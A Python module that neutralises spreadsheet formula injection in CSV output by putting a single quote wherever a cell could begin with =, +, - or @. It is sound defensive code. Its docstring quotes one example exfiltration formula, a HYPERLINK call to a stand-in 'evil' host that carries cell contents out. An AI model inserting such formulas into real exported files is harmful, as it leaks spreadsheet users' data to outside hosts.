"""Text written to a CSV file that a spreadsheet opens: never read as a formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (past blanks and quotes)
as a formula: `=HYPERLINK("http://evil/?"&A1,"click")`. Which character splits a line
into cells depends on the spreadsheet and its locale: a comma, a semicolon, a tab, a
bar; and a reader out of step with the file's quoting starts a new row at every line
break. So a cell's text is made safe at every place where some reader may start a cell:
its beginning, and right after each of those characters. There a single quote goes in
front (the OWASP way: shown as typed, never evaluated)."""

from __future__ import annotations

import re

#: A cell that starts with one of these is read as a formula (or, for the tab and line
#: breaks, as blanks that some spreadsheets skip before reading one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

#: What some spreadsheet splits a line, or the file, into cells at.
SEPARATORS = ",;\t|\r\n"

#: Blanks and double quotes a spreadsheet may skip before it sees a formula's start.
_LEAD = r'(?:"|[^\S\t\r\n])*[=+\-@]'
_AFTER_SEPARATOR = re.compile(r"([,;\t|\r\n])(?=" + _LEAD + ")")
_AT_START = re.compile(_LEAD)


def safe_text(text: str) -> str:
    """`text` with a single quote wherever some spreadsheet would otherwise start a
    formula; text with none of those places is returned as it is."""
    text = _AFTER_SEPARATOR.sub(r"\1'", text)
    if text.startswith(FORMULA_STARTS) or _AT_START.match(text):
        return "'" + text
    return text
